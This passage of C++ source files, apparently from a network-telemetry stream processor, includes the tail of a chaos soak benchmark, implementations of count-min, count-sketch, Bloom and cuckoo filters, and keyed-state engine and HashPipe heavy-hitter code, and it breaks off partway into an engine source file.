      {"sonata_fault_late_packets_total", sum.late_packets},
      {"sonata_fault_shed_packets_total", sum.shed_packets},
  };
  std::size_t counter_mismatches = 0;
  for (const auto& [name, want] : expected) {
    const std::uint64_t got = counter_value(snap, name);
    if (got != want) {
      ++counter_mismatches;
      std::printf("COUNTER MISMATCH: %s = %llu, window deltas sum to %llu\n", name,
                  static_cast<unsigned long long>(got),
                  static_cast<unsigned long long>(want));
    }
  }

  std::ofstream metrics("chaos_metrics.json");
  metrics << "{\n";
  for (std::size_t i = 0; i < std::size(expected); ++i) {
    metrics << "  \"" << expected[i].first
            << "\": " << counter_value(snap, expected[i].first)
            << (i + 1 < std::size(expected) ? ",\n" : "\n");
  }
  metrics << "}\n";

  const bool wire_injected = sum.corrupted + sum.truncated + sum.dropped + sum.duplicated +
                                 sum.reordered >
                             0;
  const bool stall_hit = sum.watchdog_fires >= 1;

  // -- phase 2: register pressure -> auto-replan recovery ----------------
  fault::FaultSpec pressure;
  pressure.seed = opts.seed;
  pressure.register_shrink = 64;
  runtime::Runtime rt(plan, 256, pressure);
  rt.set_replan_policy({.overflow_threshold = 0.01, .consecutive_windows = 2});
  runtime::Runtime::AutoReplanConfig ar;
  ar.queries = &qs;
  ar.planner = cfg;
  ar.history_windows = 2;
  rt.enable_auto_replan(ar);
  const auto replan_windows = rt.run_trace(trace_pkts);
  obs::set_enabled(false);

  const auto frac = [](const runtime::WindowStats& w) {
    return w.packets == 0 ? 0.0
                          : static_cast<double>(w.overflow_records) /
                                static_cast<double>(w.packets);
  };
  const bool replanned = rt.replans_performed() >= 1;
  const double storm = frac(replan_windows.front());
  const double settled = frac(replan_windows.back());
  const bool recovered = replanned && settled < storm && settled < 0.01;
  std::printf("\nauto-replan: %llu swap(s), overflow fraction %.3f (storm) -> %.4f (settled)\n",
              static_cast<unsigned long long>(rt.replans_performed()), storm, settled);

  const bool identity_ok = clean >= 1 && mismatched_clean == 0;
  const bool coverage_ok = wire_injected && stall_hit && faulted >= 1;
  const bool counters_ok = counter_mismatches == 0;
  const bool pass = identity_ok && coverage_ok && counters_ok && recovered;

  bench::print_table(
      {"invariant", "status"},
      {{"1. soak completed (no crash)", "yes"},
       {"2. clean windows bit-identical (" + std::to_string(clean) + " clean, " +
            std::to_string(faulted) + " faulted)",
        identity_ok ? "yes" : "NO"},
       {"3. counters == window fault deltas", counters_ok ? "yes" : "NO"},
       {"fault coverage (wire + stall)", coverage_ok ? "yes" : "NO"},
       {"auto-replan recovered", recovered ? "yes" : "NO"}});

  std::ofstream json("BENCH_chaos.json");
  char buf[768];
  std::snprintf(buf, sizeof buf,
                "{\n  \"bench\": \"chaos_soak\",\n  \"hardware\": %s,\n"
                "  \"smoke\": %s,\n  \"packets\": %zu,\n"
                "  \"windows\": %zu,\n  \"clean_windows\": %zu,\n  \"faulted_windows\": %zu,\n"
                "  \"mismatched_clean_windows\": %zu,\n  \"counter_mismatches\": %zu,\n"
                "  \"watchdog_fires\": %llu,\n  \"late_packets\": %llu,\n"
                "  \"shed_packets\": %llu,\n  \"decode_failures\": %llu,\n"
                "  \"replans\": %llu,\n  \"overflow_storm\": %.4f,\n"
                "  \"overflow_settled\": %.4f,\n  \"pass\": %s\n}\n",
                bench::hardware_json().c_str(), smoke ? "true" : "false", trace_pkts.size(),
                chaos.size(), clean, faulted,
                mismatched_clean, counter_mismatches,
                static_cast<unsigned long long>(sum.watchdog_fires),
                static_cast<unsigned long long>(sum.late_packets),
                static_cast<unsigned long long>(sum.shed_packets),
                static_cast<unsigned long long>(sum.decode_failures),
                static_cast<unsigned long long>(rt.replans_performed()), storm, settled,
                pass ? "true" : "false");
  json << buf;
  std::printf("\nWrote BENCH_chaos.json and chaos_metrics.json\n");

  if (!pass) {
    std::printf("FAIL: identity=%d coverage=%d counters=%d replan=%d\n", identity_ok,
                coverage_ok, counters_ok, recovered);
    return 1;
  }
  std::printf("PASS: all chaos invariants hold\n");
  return 0;
}
