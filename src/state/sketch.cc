#include "state/sketch.h"

#include <algorithm>
#include <cmath>
#include <cstdlib>

#include "util/hash.h"

namespace sonata::state {

namespace {

// Clamp sketch widths so a pathological eps can't allocate unbounded
// memory: [64, 16M] cells per row.
constexpr std::uint64_t kMinWidth = 64;
constexpr std::uint64_t kMaxWidth = 1ULL << 24;

[[nodiscard]] std::size_t width_for(double cells) {
  const auto want = static_cast<std::uint64_t>(std::ceil(cells));
  return static_cast<std::size_t>(pow2_at_least(std::clamp(want, kMinWidth, kMaxWidth)));
}

[[nodiscard]] int depth_for(double delta, int lo, int hi) {
  const int want = static_cast<int>(std::ceil(std::log(1.0 / delta)));
  return std::clamp(want, lo, hi);
}

}  // namespace

// --- CountMinSketch ---------------------------------------------------------

CountMinSketch::CountMinSketch(double eps, double delta)
    : width_(width_for(std::exp(1.0) / eps)),
      mask_(width_ - 1),
      depth_(depth_for(delta, 1, 8)),
      seed_(0xc0117e57c0117e57ULL),
      cells_(width_ * static_cast<std::size_t>(depth_), 0) {}

std::size_t CountMinSketch::cell_index(int row, std::uint64_t hash) const noexcept {
  const std::uint64_t h = util::hash_u64(hash, seed_ + static_cast<std::uint64_t>(row));
  return static_cast<std::size_t>(row) * width_ + static_cast<std::size_t>(h & mask_);
}

void CountMinSketch::update(std::uint64_t hash, std::uint64_t delta, query::ReduceFn fn) {
  for (int r = 0; r < depth_; ++r) {
    std::uint64_t& cell = cells_[cell_index(r, hash)];
    switch (fn) {
      case query::ReduceFn::kSum: cell += delta; break;
      case query::ReduceFn::kMax: cell = std::max(cell, delta); break;
      case query::ReduceFn::kBitOr: cell |= delta; break;
      case query::ReduceFn::kMin: break;  // unsupported; caller keeps exact state
    }
  }
}

std::uint64_t CountMinSketch::estimate(std::uint64_t hash, query::ReduceFn fn) const {
  std::uint64_t est = fn == query::ReduceFn::kBitOr ? ~0ULL : ~0ULL;
  for (int r = 0; r < depth_; ++r) {
    const std::uint64_t cell = cells_[cell_index(r, hash)];
    if (fn == query::ReduceFn::kBitOr) {
      est &= cell;
    } else {
      est = std::min(est, cell);
    }
  }
  return est;
}

void CountMinSketch::clear() { std::fill(cells_.begin(), cells_.end(), 0); }

// --- CountSketch ------------------------------------------------------------

CountSketch::CountSketch(double eps, double delta)
    : width_(width_for(3.0 / (eps * eps))),
      mask_(width_ - 1),
      depth_(depth_for(delta, 3, 9) | 1),  // odd for a well-defined median
      seed_(0xc5c5c5c5c5c5c5c5ULL),
      cells_(width_ * static_cast<std::size_t>(depth_), 0) {}

void CountSketch::update(std::uint64_t hash, std::uint64_t delta) {
  for (int r = 0; r < depth_; ++r) {
    const std::uint64_t h = util::hash_u64(hash, seed_ + static_cast<std::uint64_t>(r));
    // Low bits pick the cell, the top bit the sign — disjoint bit ranges of
    // one strong mix act as independent functions.
    const std::size_t idx = static_cast<std::size_t>(r) * width_ + (h & mask_);
    const std::int64_t sign = (h >> 63) ? 1 : -1;
    cells_[idx] += sign * static_cast<std::int64_t>(delta);
  }
}

std::uint64_t CountSketch::estimate(std::uint64_t hash) const {
  std::int64_t vals[9];
  for (int r = 0; r < depth_; ++r) {
    const std::uint64_t h = util::hash_u64(hash, seed_ + static_cast<std::uint64_t>(r));
    const std::size_t idx = static_cast<std::size_t>(r) * width_ + (h & mask_);
    const std::int64_t sign = (h >> 63) ? 1 : -1;
    vals[r] = sign * cells_[idx];
  }
  std::nth_element(vals, vals + depth_ / 2, vals + depth_);
  const std::int64_t med = vals[depth_ / 2];
  return med > 0 ? static_cast<std::uint64_t>(med) : 0;
}

void CountSketch::clear() { std::fill(cells_.begin(), cells_.end(), 0); }

// --- BloomFilter ------------------------------------------------------------

BloomFilter::BloomFilter(std::uint64_t capacity, double eps) {
  // Optimal sizing: m = n * ln(1/eps) / ln^2(2) bits, k = (m/n) * ln(2).
  constexpr double kLn2 = 0.6931471805599453;
  const double bits_per_key = std::log(1.0 / eps) / (kLn2 * kLn2);
  const double want_bits = std::max(512.0, static_cast<double>(capacity) * bits_per_key);
  const std::uint64_t bits =
      pow2_at_least(std::min<std::uint64_t>(static_cast<std::uint64_t>(want_bits), 1ULL << 33));
  mask_ = bits - 1;
  k_ = std::clamp(static_cast<int>(std::lround(bits_per_key * kLn2)), 1, 16);
  words_.assign(bits / 64, 0);
}

bool BloomFilter::insert_new(std::uint64_t hash) {
  const std::uint64_t h2 = util::mix64(hash ^ 0xb100f117e4b100f1ULL) | 1ULL;
  bool was_present = true;
  std::uint64_t h = hash;
  for (int i = 0; i < k_; ++i, h += h2) {
    const std::uint64_t bit = h & mask_;
    std::uint64_t& word = words_[bit >> 6];
    const std::uint64_t m = 1ULL << (bit & 63);
    was_present = was_present && (word & m) != 0;
    word |= m;
  }
  return !was_present;
}

bool BloomFilter::maybe_contains(std::uint64_t hash) const {
  const std::uint64_t h2 = util::mix64(hash ^ 0xb100f117e4b100f1ULL) | 1ULL;
  std::uint64_t h = hash;
  for (int i = 0; i < k_; ++i, h += h2) {
    const std::uint64_t bit = h & mask_;
    if ((words_[bit >> 6] & (1ULL << (bit & 63))) == 0) return false;
  }
  return true;
}

void BloomFilter::clear() { std::fill(words_.begin(), words_.end(), 0); }

// --- CuckooFilter -----------------------------------------------------------

CuckooFilter::CuckooFilter(std::uint64_t capacity, double eps) {
  // 4-slot buckets at ~84% max load; fingerprint width covers the target
  // false-positive rate (fp ~ 8/2^f per lookup with 2 buckets * 4 slots).
  const std::uint64_t want = std::max<std::uint64_t>(16, capacity / 3);
  buckets_ = static_cast<std::size_t>(pow2_at_least(std::min<std::uint64_t>(want, 1ULL << 28)));
  mask_ = buckets_ - 1;
  (void)eps;  // fingerprints are fixed 16-bit here; fp rate <= 8/65535 << any practical eps
  slots_.assign(buckets_ * kSlotsPerBucket, 0);
}

std::uint16_t CuckooFilter::fingerprint(std::uint64_t hash) const noexcept {
  const auto fp = static_cast<std::uint16_t>(util::mix64(hash) >> 48);
  return fp == 0 ? 1 : fp;  // 0 marks an empty slot
}

std::size_t CuckooFilter::alt_bucket(std::size_t bucket, std::uint16_t fp) const noexcept {
  return (bucket ^ static_cast<std::size_t>(util::hash_u64(fp, 0xc0c0f117e4ULL))) & mask_;
}

bool CuckooFilter::bucket_has(std::size_t bucket, std::uint16_t fp) const noexcept {
  const std::size_t base = bucket * kSlotsPerBucket;
  for (std::size_t s = 0; s < kSlotsPerBucket; ++s) {
    if (slots_[base + s] == fp) return true;
  }
  return false;
}

bool CuckooFilter::bucket_insert(std::size_t bucket, std::uint16_t fp) noexcept {
  const std::size_t base = bucket * kSlotsPerBucket;
  for (std::size_t s = 0; s < kSlotsPerBucket; ++s) {
    if (slots_[base + s] == 0) {
      slots_[base + s] = fp;
      return true;
    }
  }
  return false;
}

bool CuckooFilter::insert_new(std::uint64_t hash) {
  std::uint16_t fp = fingerprint(hash);
  const std::size_t i1 = static_cast<std::size_t>(hash) & mask_;
  const std::size_t i2 = alt_bucket(i1, fp);
  if (bucket_has(i1, fp) || bucket_has(i2, fp)) return false;
  if (bucket_insert(i1, fp) || bucket_insert(i2, fp)) return true;
  // Both buckets full: partial-key cuckoo eviction with a deterministic
  // walk (replays must be reproducible).
  std::size_t bucket = (rng_ & 1) ? i2 : i1;
  for (int kick = 0; kick < kMaxKicks; ++kick) {
    rng_ = util::mix64(rng_ + 0x2545f4914f6cdd1dULL);
    const std::size_t victim = bucket * kSlotsPerBucket + (rng_ & (kSlotsPerBucket - 1));
    std::swap(fp, slots_[victim]);
    bucket = alt_bucket(bucket, fp);
    if (bucket_insert(bucket, fp)) return true;
  }
  ++overflows_;  // table saturated: key dropped (reported already-seen)
  return false;
}

bool CuckooFilter::maybe_contains(std::uint64_t hash) const {
  const std::uint16_t fp = fingerprint(hash);
  const std::size_t i1 = static_cast<std::size_t>(hash) & mask_;
  return bucket_has(i1, fp) || bucket_has(alt_bucket(i1, fp), fp);
}

void CuckooFilter::clear() {
  std::fill(slots_.begin(), slots_.end(), 0);
  overflows_ = 0;
  rng_ = 0x9e3779b97f4a7c15ULL;
}

}  // namespace sonata::state
