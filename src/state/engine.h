// Keyed-state engines for the stream processor (DESIGN.md "Keyed-state
// engines").
//
// A ChainExecutor's stateful operators (`distinct` membership, `reduce`
// aggregation) go through DistinctEngine / ReduceEngine. Each engine has
// two statically-dispatched modes selected by the query's StateSpec:
//
//   exact  -- the PR 4 FlatSet/FlatMap path, verbatim: same SWAR probe
//             loop, same first-insertion drain order, bit-identical
//             windows, memory linear in key cardinality. The sketch mode
//             costs the exact path exactly one well-predicted branch.
//   sketch -- fixed memory independent of cardinality. Distinct uses a
//             Bloom or cuckoo filter (false-positive rate <= eps, never
//             false-negative). Reduce uses count-min / count-sketch for
//             value estimates plus a fixed-capacity heavy-key store
//             (~2/eps slots, larger-estimate-wins eviction) so the window
//             drain can still emit (key, value) pairs for the keys that
//             matter; estimates are within eps*N with prob >= 1-delta.
//
// Both modes are deterministic for a given input sequence. kMin reduces
// stay exact even under a sketch spec (a zero-initialized counter array
// cannot represent min); this is documented engine behavior.
#pragma once

#include <cstdint>
#include <memory>
#include <vector>

#include "query/ops.h"
#include "query/state_spec.h"
#include "query/tuple.h"
#include "state/sketch.h"
#include "util/flat_table.h"

namespace sonata::state {

// Apply a reduce function to an existing aggregate. (Shared by the SP
// engines and the PISA register arrays; pisa::apply_reduce forwards here.)
[[nodiscard]] constexpr std::uint64_t apply_reduce(query::ReduceFn fn, std::uint64_t current,
                                                   std::uint64_t delta) noexcept {
  switch (fn) {
    case query::ReduceFn::kSum: return current + delta;
    case query::ReduceFn::kMax: return current > delta ? current : delta;
    case query::ReduceFn::kMin: return current < delta ? current : delta;
    case query::ReduceFn::kBitOr: return current | delta;
  }
  return current;
}

// Aggregate usage a stateful engine reports to the obs layer.
struct StateUsage {
  std::uint64_t entries = 0;  // keys resident (exact) / slots occupied (sketch)
  std::uint64_t bytes = 0;    // actual memory footprint
  double error_bound = 0.0;   // 0 for exact; eps*N (reduce) or eps (distinct)
};

// --- sketched reduce --------------------------------------------------------

// Count-min / count-sketch estimator plus a fixed heavy-key store. The
// store keeps the keys themselves (a sketch alone cannot enumerate keys at
// drain); two candidate slots per key, the smaller current estimate is
// evicted when both are taken — HashPipe's "keep the larger" discipline
// applied at the SP.
class SketchReduce {
 public:
  SketchReduce(const query::StateSpec& spec, query::ReduceFn fn);

  void update(const query::Tuple& key, std::uint64_t hash, std::uint64_t delta);

  // Emit surviving (key, estimate) pairs in slot order (deterministic for
  // a given input sequence). Estimates are re-read from the sketch so a
  // slot whose key grew after its last touch reports the final value.
  template <typename Emit>
  void drain(Emit&& emit) {
    for (Slot& s : heavy_) {
      if (!s.occupied) continue;
      emit(std::move(s.key), estimate(s.hash));
    }
  }

  void clear();

  [[nodiscard]] std::uint64_t entries() const noexcept { return occupied_; }
  [[nodiscard]] std::uint64_t bytes() const noexcept;
  [[nodiscard]] std::uint64_t total_weight() const noexcept { return weight_; }
  [[nodiscard]] double eps() const noexcept { return eps_; }

 private:
  struct Slot {
    bool occupied = false;
    std::uint64_t hash = 0;
    std::uint64_t est = 0;  // estimate when last touched (eviction ordering)
    query::Tuple key;
  };

  [[nodiscard]] std::uint64_t estimate(std::uint64_t hash) const;

  query::ReduceFn fn_ = query::ReduceFn::kSum;
  double eps_ = 0.01;
  std::unique_ptr<CountMinSketch> cm_;
  std::unique_ptr<CountSketch> cs_;  // kSum only; cm_ used otherwise
  std::vector<Slot> heavy_;
  std::uint64_t hmask_ = 0;
  std::uint64_t occupied_ = 0;
  std::uint64_t weight_ = 0;  // N: total aggregated weight this window
};

// --- engines ----------------------------------------------------------------

class DistinctEngine {
 public:
  DistinctEngine() = default;  // exact

  void configure(const query::StateSpec& spec);

  // Returns true when the key was not seen before in this window. Sketch
  // mode may return false for a genuinely new key at rate <= eps.
  bool insert_new(const query::Tuple& t, std::uint64_t hash) {
    if (!sketch_) return exact_.insert(t, hash);
    const bool fresh = bloom_ ? bloom_->insert_new(hash) : cuckoo_->insert_new(hash);
    sketch_entries_ += fresh ? 1 : 0;
    return fresh;
  }

  void clear() {
    if (!sketch_) {
      exact_.clear();
    } else if (bloom_) {
      bloom_->clear();
      sketch_entries_ = 0;
    } else {
      cuckoo_->clear();
      sketch_entries_ = 0;
    }
  }

  [[nodiscard]] bool exact() const noexcept { return !sketch_; }
  [[nodiscard]] StateUsage usage() const;

  // Exact-mode set, for probe-depth/load obs (null in sketch mode).
  [[nodiscard]] const util::FlatSet* exact_set() const noexcept {
    return sketch_ ? nullptr : &exact_;
  }
  [[nodiscard]] util::FlatSet* exact_set() noexcept { return sketch_ ? nullptr : &exact_; }

 private:
  bool sketch_ = false;
  util::FlatSet exact_;
  std::unique_ptr<BloomFilter> bloom_;
  std::unique_ptr<CuckooFilter> cuckoo_;
  double eps_ = 0.0;
  std::uint64_t sketch_entries_ = 0;
};

class ReduceEngine {
 public:
  ReduceEngine() = default;  // exact

  void configure(const query::StateSpec& spec, query::ReduceFn fn);

  void update(query::Tuple&& key, std::uint64_t hash, std::uint64_t delta) {
    if (!sketch_) {
      const auto [slot, inserted] = exact_.try_emplace(std::move(key), hash, delta);
      if (!inserted) *slot = apply_reduce(fn_, *slot, delta);
      return;
    }
    sketch_->update(key, hash, delta);
  }

  // Drain (key, value) pairs in the engine's canonical order. Exact mode
  // preserves PR 4's first-insertion order bit-for-bit; keys are moved out
  // and the table is left cleared either way.
  template <typename Emit>
  void drain_and_clear(Emit&& emit) {
    if (!sketch_) {
      for (auto& e : exact_.entries()) emit(std::move(e.key), e.value);
      exact_.clear();
      return;
    }
    sketch_->drain(emit);
    sketch_->clear();
  }

  void clear() {
    if (!sketch_) {
      exact_.clear();
    } else {
      sketch_->clear();
    }
  }

  [[nodiscard]] bool exact() const noexcept { return !sketch_; }
  [[nodiscard]] std::uint64_t size() const noexcept {
    return sketch_ ? sketch_->entries() : exact_.size();
  }
  [[nodiscard]] StateUsage usage() const;

  // Exact-mode map, for probe-depth/load obs (null in sketch mode).
  [[nodiscard]] const util::FlatMap<std::uint64_t>* exact_map() const noexcept {
    return sketch_ ? nullptr : &exact_;
  }
  [[nodiscard]] util::FlatMap<std::uint64_t>* exact_map() noexcept {
    return sketch_ ? nullptr : &exact_;
  }

 private:
  query::ReduceFn fn_ = query::ReduceFn::kSum;
  util::FlatMap<std::uint64_t> exact_;
  std::unique_ptr<SketchReduce> sketch_;  // null = exact mode
};

}  // namespace sonata::state
