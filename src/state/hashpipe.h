// HashPipe-style d-stage heavy-hitter pipeline for switch register
// aggregation (PAPERS.md: "Heavy-Hitter Detection Entirely in the Data
// Plane").
//
// Unlike the exact d-way RegisterChain, HashPipe never refuses a key:
// stage 1 always inserts the incoming key (evicting any occupant), and the
// evicted entry is carried down the remaining stages, at each one either
// merging with its own key, taking an empty slot, or swapping with a
// smaller-valued occupant ("keep the larger, carry the smaller"). A carry
// that survives the last stage is dropped — its weight is accumulated in
// evicted_weight(), turning PR 5's overflow-to-SP semantics into an error
// bound the runtime reports instead of correcting.
//
// Consequences, tracked deliberately:
//   - a key may be split across stages (duplicate slots); end-of-window
//     entries() emits every slot and the stream processor's reduce merges
//     them, so window aggregates only lose the evicted weight;
//   - per-key totals are lower bounds: true_count - evicted_weight <=
//     reported <= true_count, summed across a window;
//   - heavy keys survive with high probability because eviction always
//     prefers the smaller running value.
//
// Deterministic for a given input sequence (no randomness anywhere).
#pragma once

#include <cstdint>
#include <optional>
#include <vector>

#include "query/ops.h"
#include "query/tuple.h"
#include "util/hash.h"

namespace sonata::state {

struct HashPipeConfig {
  std::size_t entries_per_stage = 1024;
  int stages = 2;
  std::uint64_t hash_seed = 0;  // 0 keeps the HashFamily default
};

class HashPipeChain {
 public:
  explicit HashPipeChain(const HashPipeConfig& cfg);

  struct UpdateResult {
    bool newly_inserted = false;  // key took a fresh stage-1 slot
    int probes = 0;               // stages touched by the carry walk
    std::uint64_t value = 0;      // running value at the slot that absorbed the update
  };

  UpdateResult update(const query::Tuple& key, std::uint64_t delta, query::ReduceFn fn);

  // Merged aggregate across every stage slot holding this key.
  [[nodiscard]] std::optional<std::uint64_t> read(const query::Tuple& key,
                                                  query::ReduceFn fn) const;

  // Set the key's reported flag on every resident slot; returns true when
  // no resident slot had it set (i.e. report now). False if absent.
  bool mark_reported(const query::Tuple& key);

  // All occupied (key, value) slots, stage-major (deterministic). May
  // contain the same key more than once; callers merge.
  [[nodiscard]] std::vector<std::pair<query::Tuple, std::uint64_t>> entries() const;

  void reset();

  [[nodiscard]] std::uint64_t stored() const noexcept { return stored_; }
  [[nodiscard]] std::uint64_t evicted_weight() const noexcept { return evicted_weight_; }
  [[nodiscard]] std::uint64_t evicted_keys() const noexcept { return evicted_keys_; }
  [[nodiscard]] const HashPipeConfig& config() const noexcept { return cfg_; }

 private:
  struct Slot {
    bool occupied = false;
    bool reported = false;
    std::uint64_t hash = 0;
    query::Tuple key;
    std::uint64_t value = 0;
  };

  [[nodiscard]] std::size_t index(int stage, std::uint64_t hash) const noexcept {
    return static_cast<std::size_t>(hashes_(static_cast<std::size_t>(stage), hash) %
                                    cfg_.entries_per_stage);
  }

  HashPipeConfig cfg_;
  util::HashFamily hashes_;
  std::vector<std::vector<Slot>> stages_;  // [stage][entries]
  std::uint64_t stored_ = 0;
  std::uint64_t evicted_weight_ = 0;
  std::uint64_t evicted_keys_ = 0;
};

}  // namespace sonata::state
