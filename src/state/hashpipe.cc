#include "state/hashpipe.h"

#include <utility>

#include "state/engine.h"

namespace sonata::state {

HashPipeChain::HashPipeChain(const HashPipeConfig& cfg)
    : cfg_(cfg),
      hashes_(static_cast<std::size_t>(cfg.stages),
              cfg.hash_seed != 0 ? cfg.hash_seed : 0x5eed5eed5eed5eedULL),
      stages_(static_cast<std::size_t>(cfg.stages),
              std::vector<Slot>(cfg.entries_per_stage)) {}

HashPipeChain::UpdateResult HashPipeChain::update(const query::Tuple& key, std::uint64_t delta,
                                                  query::ReduceFn fn) {
  UpdateResult r;
  const std::uint64_t h = key.hash();

  // Stage 1: always lands. Merge with itself, take an empty slot, or evict
  // the occupant into the carry.
  Slot& first = stages_[0][index(0, h)];
  r.probes = 1;
  if (!first.occupied) {
    first.occupied = true;
    first.reported = false;
    first.hash = h;
    first.key = key;
    first.value = delta;
    ++stored_;
    r.newly_inserted = true;
    r.value = delta;
    return r;
  }
  if (first.hash == h && first.key == key) {
    first.value = apply_reduce(fn, first.value, delta);
    r.value = first.value;
    return r;
  }
  Slot carry = std::exchange(first, Slot{true, false, h, key, delta});
  ++stored_;  // the new key's residency; the carry keeps its own count below
  r.newly_inserted = true;  // fresh stage-1 residency for this key
  r.value = delta;

  // Carry the evicted entry down the remaining stages.
  for (int s = 1; s < cfg_.stages; ++s) {
    ++r.probes;
    Slot& slot = stages_[s][index(s, carry.hash)];
    if (!slot.occupied) {
      slot = std::move(carry);
      return r;
    }
    if (slot.hash == carry.hash && slot.key == carry.key) {
      slot.value = apply_reduce(fn, slot.value, carry.value);
      slot.reported = slot.reported || carry.reported;
      --stored_;  // two residencies of one key merged
      return r;
    }
    if (carry.value > slot.value) std::swap(carry, slot);  // keep the larger
  }
  // Fell off the pipeline: the carry's weight becomes tracked error.
  evicted_weight_ += carry.value;
  ++evicted_keys_;
  --stored_;
  return r;
}

std::optional<std::uint64_t> HashPipeChain::read(const query::Tuple& key,
                                                 query::ReduceFn fn) const {
  const std::uint64_t h = key.hash();
  std::optional<std::uint64_t> out;
  for (int s = 0; s < cfg_.stages; ++s) {
    const Slot& slot = stages_[s][index(s, h)];
    if (!slot.occupied || slot.hash != h || !(slot.key == key)) continue;
    out = out ? apply_reduce(fn, *out, slot.value) : slot.value;
  }
  return out;
}

bool HashPipeChain::mark_reported(const query::Tuple& key) {
  const std::uint64_t h = key.hash();
  bool found = false;
  bool was_reported = false;
  for (int s = 0; s < cfg_.stages; ++s) {
    Slot& slot = stages_[s][index(s, h)];
    if (!slot.occupied || slot.hash != h || !(slot.key == key)) continue;
    found = true;
    was_reported = was_reported || slot.reported;
    slot.reported = true;
  }
  return found && !was_reported;
}

std::vector<std::pair<query::Tuple, std::uint64_t>> HashPipeChain::entries() const {
  std::vector<std::pair<query::Tuple, std::uint64_t>> out;
  out.reserve(static_cast<std::size_t>(stored_));
  for (const auto& stage : stages_) {
    for (const Slot& slot : stage) {
      if (slot.occupied) out.emplace_back(slot.key, slot.value);
    }
  }
  return out;
}

void HashPipeChain::reset() {
  for (auto& stage : stages_) {
    for (Slot& slot : stage) {
      if (!slot.occupied) continue;
      slot = Slot{};
    }
  }
  stored_ = 0;
  evicted_weight_ = 0;
  evicted_keys_ = 0;
}

}  // namespace sonata::state
