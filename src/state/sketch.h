// Probabilistic summaries backing the bounded-memory keyed-state engines
// (DESIGN.md "Keyed-state engines").
//
// All structures key on a precomputed 64-bit tuple hash (the same hash the
// exact FlatTable engines consume), derive their per-row/per-probe hashes
// from it with seeded mixing, and are deterministic: the same insertion
// sequence always produces the same state, so sketched runs replay
// bit-identically even though their results are approximate.
//
//   CountMinSketch  -- reduce estimates for monotone fns (sum/max/bitor):
//                      estimate <= true + eps*N with prob >= 1-delta.
//   CountSketch     -- unbiased sum estimates (median of signed rows);
//                      tighter on heavy-tailed streams, sum only.
//   BloomFilter     -- distinct membership, false-positive rate <= eps,
//                      never false-negative (distinct only undercounts).
//   CuckooFilter    -- same contract, fingerprint-based, supports higher
//                      load factors at equal eps.
//
// Memory for each is fixed at construction — independent of how many keys
// the window actually carries.
#pragma once

#include <cstddef>
#include <cstdint>
#include <vector>

#include "query/ops.h"

namespace sonata::state {

// Smallest power of two >= n (n must be >= 1).
[[nodiscard]] constexpr std::uint64_t pow2_at_least(std::uint64_t n) noexcept {
  std::uint64_t p = 1;
  while (p < n) p <<= 1;
  return p;
}

class CountMinSketch {
 public:
  CountMinSketch(double eps, double delta);

  // Fold `delta` into every row's cell for this key. Supported fns: kSum,
  // kMax, kBitOr (monotone merges with identity 0). kMin is not
  // representable (zero-initialized cells absorb it); callers keep exact
  // state for kMin.
  void update(std::uint64_t hash, std::uint64_t delta, query::ReduceFn fn);

  // Conservative estimate: min over rows (sum/max), AND over rows (bitor).
  [[nodiscard]] std::uint64_t estimate(std::uint64_t hash, query::ReduceFn fn) const;

  void clear();

  [[nodiscard]] std::size_t width() const noexcept { return width_; }
  [[nodiscard]] int depth() const noexcept { return depth_; }
  [[nodiscard]] std::uint64_t bytes() const noexcept { return cells_.size() * sizeof(std::uint64_t); }

 private:
  [[nodiscard]] std::size_t cell_index(int row, std::uint64_t hash) const noexcept;

  std::size_t width_ = 0;  // power of two
  std::uint64_t mask_ = 0;
  int depth_ = 0;
  std::uint64_t seed_ = 0;
  std::vector<std::uint64_t> cells_;  // [depth][width]
};

class CountSketch {
 public:
  CountSketch(double eps, double delta);

  void update(std::uint64_t hash, std::uint64_t delta);

  // Median of signed row estimates, clamped to >= 0 (aggregates here are
  // unsigned counts).
  [[nodiscard]] std::uint64_t estimate(std::uint64_t hash) const;

  void clear();

  [[nodiscard]] std::size_t width() const noexcept { return width_; }
  [[nodiscard]] int depth() const noexcept { return depth_; }
  [[nodiscard]] std::uint64_t bytes() const noexcept { return cells_.size() * sizeof(std::int64_t); }

 private:
  std::size_t width_ = 0;  // power of two
  std::uint64_t mask_ = 0;
  int depth_ = 0;  // odd, for the median
  std::uint64_t seed_ = 0;
  std::vector<std::int64_t> cells_;  // [depth][width]
};

class BloomFilter {
 public:
  BloomFilter(std::uint64_t capacity, double eps);

  // Insert; returns true when the key was definitely absent before (a
  // false positive at rate <= eps returns false for a genuinely new key).
  bool insert_new(std::uint64_t hash);

  [[nodiscard]] bool maybe_contains(std::uint64_t hash) const;

  void clear();

  [[nodiscard]] std::uint64_t bits() const noexcept { return mask_ + 1; }
  [[nodiscard]] int hashes() const noexcept { return k_; }
  [[nodiscard]] std::uint64_t bytes() const noexcept { return words_.size() * sizeof(std::uint64_t); }

 private:
  std::uint64_t mask_ = 0;  // bits - 1, bits a power of two
  int k_ = 1;
  std::vector<std::uint64_t> words_;
};

class CuckooFilter {
 public:
  CuckooFilter(std::uint64_t capacity, double eps);

  // Insert; returns true when the fingerprint was absent from both
  // candidate buckets (new key). A full table counts an overflow and
  // reports the key as already-seen (bounded undercount, see overflows()).
  bool insert_new(std::uint64_t hash);

  [[nodiscard]] bool maybe_contains(std::uint64_t hash) const;

  void clear();

  [[nodiscard]] std::uint64_t overflows() const noexcept { return overflows_; }
  [[nodiscard]] std::uint64_t bytes() const noexcept {
    return slots_.size() * sizeof(std::uint16_t);
  }

 private:
  static constexpr std::size_t kSlotsPerBucket = 4;
  static constexpr int kMaxKicks = 500;

  [[nodiscard]] std::uint16_t fingerprint(std::uint64_t hash) const noexcept;
  [[nodiscard]] std::size_t alt_bucket(std::size_t bucket, std::uint16_t fp) const noexcept;
  [[nodiscard]] bool bucket_has(std::size_t bucket, std::uint16_t fp) const noexcept;
  bool bucket_insert(std::size_t bucket, std::uint16_t fp) noexcept;

  std::size_t buckets_ = 0;  // power of two
  std::uint64_t mask_ = 0;
  std::uint64_t rng_ = 0x9e3779b97f4a7c15ULL;  // deterministic eviction walk
  std::uint64_t overflows_ = 0;
  std::vector<std::uint16_t> slots_;  // buckets * kSlotsPerBucket, 0 = empty
};

}  // namespace sonata::state
