#include "state/engine.h"

#include <algorithm>
#include <cmath>

namespace sonata::state {

namespace {

// Heavy-key store capacity: enough slots that every key of weight share
// > eps can survive eviction (2/eps with headroom), power of two for
// masked indexing, clamped to [64, 1M] slots.
[[nodiscard]] std::uint64_t heavy_slots_for(double eps) {
  const auto want = static_cast<std::uint64_t>(std::ceil(2.0 / eps));
  return pow2_at_least(std::clamp<std::uint64_t>(want, 64, 1ULL << 20));
}

}  // namespace

